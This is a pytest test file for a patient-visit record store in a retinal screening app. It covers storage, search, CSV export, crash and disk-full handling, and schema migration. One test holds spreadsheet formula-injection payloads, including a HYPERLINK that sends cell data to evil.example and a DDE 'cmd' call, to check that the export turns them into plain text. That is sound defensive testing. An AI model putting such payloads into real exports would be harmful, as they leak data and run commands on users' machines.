"""Records: SQLite WAL + content-addressed image store (headless, no Qt)."""

from __future__ import annotations

import csv
import errno
import hashlib
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from edge_screen.errors import UsageError
from edge_screen.gui.records import CSV_COLUMNS, RecordStore, StoreError

pytestmark = pytest.mark.gui


def _add(store: RecordStore, i: int, **kw):
    args = dict(patient_id=f"P{i:04d}", eye="OD" if i % 2 else "OS", image=f"image-{i}".encode() * 100,
                image_ext=".jpg", verdict=("abnormal", "normal", "ungradable")[i % 3],
                probability=None if i % 3 == 2 else i / 100, threshold=0.31, bundle_id="tiny@1.0.0:abc",
                bundle_version="1.0.0", backend="onnxruntime", operator="tech1", source="file",
                heatmap_png=b"\x89PNG-heat" + bytes([i]))
    args.update(kw)
    return store.add_visit(**args)


def test_add_get_search_and_image_store(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "rec")
    recs = [_add(store, i) for i in range(6)]
    assert store.count() == 6
    got = store.get(recs[1].visit_id)
    assert got == recs[1]
    # content-addressed: the file name is the SHA-256 of the bytes, and the bytes are unchanged
    data = store.image_path(got).read_bytes()
    assert hashlib.sha256(data).hexdigest() == got.image_sha256 == store.image_path(got).stem
    assert data == b"image-1" * 100
    assert store.heatmap_path(got).read_bytes() == b"\x89PNG-heat\x01"
    # search by patient id, verdict and eye
    assert [r.patient_id for r in store.search("P0003")] == ["P0003"]
    assert {r.verdict for r in store.search("abnormal")} == {"abnormal"}
    assert len(store.search("")) == 6
    assert store.search("nobody") == []
    # WAL is on
    assert store._conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    store.close()
    # reopening keeps everything
    again = RecordStore(tmp_path / "rec")
    assert again.get(recs[4].visit_id) == recs[4]
    assert again.integrity_ok()


def test_same_image_twice_stored_once(tmp_path: Path) -> None:
    store = RecordStore(tmp_path)
    a = _add(store, 1)
    b = _add(store, 1, eye="OS")
    assert a.image_sha256 == b.image_sha256 and a.visit_id != b.visit_id
    assert len(list((tmp_path / "images").rglob("*.jpg"))) == 1


@pytest.mark.parametrize("bad", [dict(patient_id="  "), dict(eye="left"), dict(verdict="maybe")])
def test_invalid_visit_rejected(tmp_path: Path, bad: dict) -> None:
    store = RecordStore(tmp_path)
    with pytest.raises(UsageError):
        _add(store, 1, **bad)
    assert store.count() == 0


def test_csv_export(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "rec")
    recs = [_add(store, i) for i in range(3)]
    out = store.export_csv(tmp_path / "visits.csv")
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert {r["visit_id"] for r in rows} == {r.visit_id for r in recs}
    ungradable = next(r for r in rows if r["verdict"] == "ungradable")
    assert ungradable["probability"] == ""


def test_disk_full_at_write_is_clear_and_loses_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = RecordStore(tmp_path / "rec")
    first = _add(store, 1)
    real_fdopen = os.fdopen

    class _FullFile:
        def __init__(self, fh):
            self._fh = fh

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self._fh.close()

        def write(self, data):
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fdopen", lambda fd, *a, **k: _FullFile(real_fdopen(fd, *a, **k)))
    with pytest.raises(StoreError, match="disk is full") as info:
        _add(store, 2)
    assert "Retry save" in str(info.value)
    monkeypatch.undo()
    # nothing half-written: no temp files, no row, earlier record intact
    assert not list((tmp_path / "rec" / "images").rglob(".tmp-*"))
    assert store.count() == 1 and store.get(first.visit_id) == first
    # once space is back the same visit saves
    second = _add(store, 2)
    assert store.count() == 2 and store.image_path(second).read_bytes() == b"image-2" * 100


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root ignores directory permissions")
def test_read_only_store_is_clear_error(tmp_path: Path) -> None:
    root = tmp_path / "rec"
    store = RecordStore(root)
    first = _add(store, 1)
    store.close()
    os.chmod(root / "images", 0o555)
    for sub in (root / "images").iterdir():
        os.chmod(sub, 0o555)
    try:
        store = RecordStore(root)
        with pytest.raises(StoreError, match="read-only"):
            _add(store, 2)
        assert store.get(first.visit_id) == first and store.count() == 1
    finally:
        for sub in (root / "images").iterdir():
            os.chmod(sub, 0o755)
        os.chmod(root / "images", 0o755)


def test_read_only_store_via_eacces_injection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Same as above but works as root too: the OS refuses the temp file with EROFS."""
    import tempfile

    store = RecordStore(tmp_path / "rec")
    first = _add(store, 1)

    def refuse(*a, **k):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(StoreError, match="read-only"):
        _add(store, 2)
    monkeypatch.undo()
    assert store.count() == 1 and store.get(first.visit_id) == first


_CHILD = textwrap.dedent("""
    import sys, time
    from edge_screen.gui.records import RecordStore
    store = RecordStore(sys.argv[1])
    for i in range(5):
        store.add_visit(patient_id=f"P{i}", eye="OD", image=f"img{i}".encode(), image_ext=".jpg",
                        verdict="normal", probability=0.1, threshold=0.3, bundle_id="b", bundle_version="1",
                        backend="onnxruntime")
    def pause():
        print("IN-TRANSACTION", flush=True)
        time.sleep(60)
    store._before_commit = pause
    store.add_visit(patient_id="P-killed", eye="OS", image=b"killed", image_ext=".jpg", verdict="abnormal",
                    probability=0.9, threshold=0.3, bundle_id="b", bundle_version="1", backend="onnxruntime")
""")


def test_sigkill_mid_transaction_keeps_db_consistent(tmp_path: Path) -> None:
    root = tmp_path / "rec"
    proc = subprocess.Popen([sys.executable, "-c", _CHILD, str(root)], stdout=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert line.strip() == "IN-TRANSACTION"
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(timeout=30)
    assert proc.returncode == -signal.SIGKILL
    store = RecordStore(root)
    assert store.integrity_ok()
    recs = store.search()
    assert sorted(r.patient_id for r in recs) == [f"P{i}" for i in range(5)]
    for r in recs:
        assert hashlib.sha256(store.image_path(r).read_bytes()).hexdigest() == r.image_sha256
    # the store still takes new visits after the crash
    _add(store, 9)
    assert store.count() == 6


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    """A patient ID or operator that a spreadsheet would run as a formula is written as text."""
    store = RecordStore(tmp_path / "rec")
    evil = ['=HYPERLINK("http://evil.example/?"&A1, "open")', "+1+2", "-2+3", "@SUM(A1:A9)"]
    for i, pid in enumerate(evil):
        _add(store, i, patient_id=pid, operator="=cmd|' /C calc'!A0")
    _add(store, 7, patient_id="P-TAB", operator="\t=1+1")       # patient IDs are stripped; operators are not
    _add(store, 8, patient_id="P-CR", operator="\r=1+1")
    _add(store, 9, patient_id="P-0009")
    out = store.export_csv(tmp_path / "visits.csv")
    rows = {r["patient_id"]: r for r in csv.DictReader(out.open(encoding="utf-8-sig", newline=""))}
    for pid in evil:
        assert "'" + pid in rows, pid                       # apostrophe first: plain text in a spreadsheet
        assert rows["'" + pid]["operator"].startswith("'=")
    assert rows["P-TAB"]["operator"] == "'\t=1+1" and rows["P-CR"]["operator"] == "'\r=1+1"
    assert "P-0009" in rows                                   # ordinary values unchanged
    for r in rows.values():
        for v in r.values():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert {r["probability"] for r in rows.values()} >= {"0.01"}   # numbers stay numbers


def test_orphan_temp_files_removed_at_start(tmp_path: Path) -> None:
    root = tmp_path / "rec"
    store = RecordStore(root)
    rec = _add(store, 1)
    store.close()
    shard = store.image_path(rec).parent
    old = shard / ".tmp-crashed.jpg"
    old.write_bytes(b"half a photo")
    os.utime(old, (1_000_000_000, 1_000_000_000))            # left by a crash long ago
    fresh = shard / ".tmp-being-written.jpg"
    fresh.write_bytes(b"in progress")                          # another writer, right now: left alone
    again = RecordStore(root)
    assert again.removed_temp_files == 1
    assert not old.exists() and fresh.exists()
    assert again.image_path(rec).read_bytes() == b"image-1" * 100   # real images untouched


def test_corrections_keep_a_trail(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "rec")
    rec = _add(store, 1, eye="OD", operator="", session_id="visit-1")
    fixed = store.correct(rec.visit_id, "eye", "OS", by="Asha")
    fixed = store.correct(rec.visit_id, "operator", "Asha", by="Asha")
    assert (fixed.eye, fixed.operator) == ("OS", "Asha")
    trail = store.corrections(rec.visit_id)
    assert [(c.field, c.old, c.new, c.by) for c in trail] == [("eye", "OD", "OS", "Asha"), ("operator", "", "Asha", "Asha")]
    with pytest.raises(UsageError):
        store.correct(rec.visit_id, "patient_id", "someone else")
    with pytest.raises(UsageError):
        store.correct(rec.visit_id, "eye", "left")
    # the trail survives reopening, and the visit groups its records
    other = _add(store, 2, session_id="visit-1")
    store.close()
    again = RecordStore(tmp_path / "rec")
    assert len(again.corrections(rec.visit_id)) == 2
    assert {r.visit_id for r in again.session(again.get(rec.visit_id))} == {rec.visit_id, other.visit_id}


def test_no_id_needs_the_flag(tmp_path: Path) -> None:
    store = RecordStore(tmp_path / "rec")
    with pytest.raises(UsageError, match="Patient ID"):
        _add(store, 1, patient_id="")
    rec = _add(store, 1, patient_id="", no_id=True)
    assert store.get(rec.visit_id).no_id is True and store.get(rec.visit_id).patient_id == ""


_V1_SCHEMA = """
CREATE TABLE visits (visit_id TEXT PRIMARY KEY, patient_id TEXT NOT NULL, eye TEXT NOT NULL CHECK (eye IN ('OD', 'OS')),
    time_utc TEXT NOT NULL, image_sha256 TEXT NOT NULL, image_ext TEXT NOT NULL, heatmap_sha256 TEXT,
    verdict TEXT NOT NULL CHECK (verdict IN ('abnormal', 'normal', 'ungradable')), probability REAL, threshold REAL,
    quality_reasons TEXT NOT NULL DEFAULT '', bundle_id TEXT NOT NULL, bundle_version TEXT NOT NULL,
    backend TEXT NOT NULL, operator TEXT NOT NULL DEFAULT '', source TEXT NOT NULL DEFAULT '');
PRAGMA user_version=1;
"""


def test_schema_1_store_is_migrated(tmp_path: Path) -> None:
    import sqlite3

    root = tmp_path / "rec"
    (root / "images").mkdir(parents=True)
    conn = sqlite3.connect(root / "records.sqlite3")
    conn.executescript(_V1_SCHEMA)
    conn.execute("INSERT INTO visits VALUES ('v1', 'P-OLD', 'OD', '2025-01-01T10:00:00+00:00', 'ab', '.jpg', NULL, "
                 "'normal', 0.1, 0.3, '', 'b@1:x', '1', 'onnxruntime', 'op', 'file')")
    conn.commit()
    conn.close()
    store = RecordStore(root)
    old = store.get("v1")
    assert (old.patient_id, old.session_id, old.no_id) == ("P-OLD", "", False)
    assert store.session(old) == [old]
    new = _add(store, 2, session_id="s")
    assert store.count() == 2 and store.get(new.visit_id).session_id == "s"
    assert store._conn.execute("PRAGMA user_version").fetchone()[0] == 2


_MEDIA_CHILD = textwrap.dedent("""
    import json, os, subprocess, sys
    mnt = sys.argv[1]
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", mnt], check=True)
    from edge_screen.gui.records import RecordStore, StoreError
    root = os.path.join(mnt, "rec")
    def add(store, i, size=1000):
        return store.add_visit(patient_id=f"P{i}", eye="OD", image=os.urandom(size), image_ext=".jpg",
                               verdict="normal", probability=0.1, threshold=0.3, bundle_id="b", bundle_version="1",
                               backend="onnxruntime")
    store = RecordStore(root)
    for i in range(3):
        add(store, i)
    store.close()
    out = {}
    with open(os.path.join(mnt, "filler"), "wb") as fh:       # fill the disk
        try:
            while True:
                fh.write(b"\\0" * 65536)
                fh.flush()
        except OSError:
            pass
    full = RecordStore(root)
    out["full"] = {"read_only": full.read_only, "history": len(full.search())}
    try:
        add(full, 9, size=200_000)
    except StoreError as exc:
        out["full"]["save"] = exc.reason
    full.close()
    os.remove(os.path.join(mnt, "filler"))
    subprocess.run(["mount", "-o", "remount,ro", mnt], check=True)   # a read-only medium
    ro = RecordStore(root)
    out["ro"] = {"read_only": ro.read_only, "history": len(ro.search()), "why": ro.read_only_reason.reason}
    try:
        add(ro, 10)
    except StoreError as exc:
        out["ro"]["save"] = exc.reason
    print(json.dumps(out))
""")


def test_full_disk_and_read_only_medium_still_show_history(tmp_path: Path) -> None:
    """On a real full tmpfs and a real read-only remount (in a private mount namespace)."""
    import json
    import shutil

    if shutil.which("unshare") is None or subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode:
        pytest.skip("needs 'unshare -rm' (user + mount namespaces) to mount a small tmpfs without privileges")
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    res = subprocess.run(["unshare", "-rm", sys.executable, "-c", _MEDIA_CHILD, str(mnt)], capture_output=True,
                         text=True, timeout=120)
    if res.returncode and "mount" in res.stderr and "permission" in res.stderr.lower():
        pytest.skip(f"mounting a tmpfs is not allowed here: {res.stderr.strip().splitlines()[-1]}")
    assert res.returncode == 0, res.stderr
    out = json.loads(res.stdout.strip().splitlines()[-1])
    assert out["full"]["history"] == 3 and out["full"]["save"] == "disk_full"
    assert out["ro"] == {"read_only": True, "history": 3, "why": "read_only", "save": "read_only"}


def test_a_rechecked_result_records_which_model_ran_first(tmp_path: Path, tiny_bundle: Path) -> None:
    """A borderline INT8 photo decided by FP32 (edge_screen.recheck) is filed under the model that
    decided it, and the record says which one ran first."""
    import dataclasses

    from edge_screen.gui.jobs import SaveRequest, save_job
    from edge_screen.gui.visit import Capture, SourceKind
    from edge_screen.screener import Screener
    from edge_screen.synthetic import synthetic_fundus

    r = Screener(tiny_bundle, threads=1).screen(synthetic_fundus(320, seed=0, width=400, height=320))
    assert r.recheck is None
    rechecked = dataclasses.replace(r, recheck={"first": "openvino/int8", "first_probability": 0.27, "margin": 0.05,
                                                "why": "near the threshold"})  # fmt: skip
    store = RecordStore(tmp_path / "rec")
    for i, (res, want) in enumerate(((r, f"{r.backend}/{r.precision}"),
                                     (rechecked, f"{r.backend}/{r.precision} (re-check of openvino/int8)"))):
        req = SaveRequest(shot_id=f"s{i}", patient_id="P1", no_id=False, eye="OD", operator="tech1", session_id="v1",
                          capture=Capture(data=b"jpeg-bytes-%d" % i, ext=".jpg", source=SourceKind.FILE), result=res,
                          heatmap_png=None)  # fmt: skip
        shot, rec = save_job(None, None, store, req)
        assert shot == f"s{i}" and rec.backend == want and rec.verdict == r.verdict
        assert store.get(rec.visit_id).backend == want  # as stored
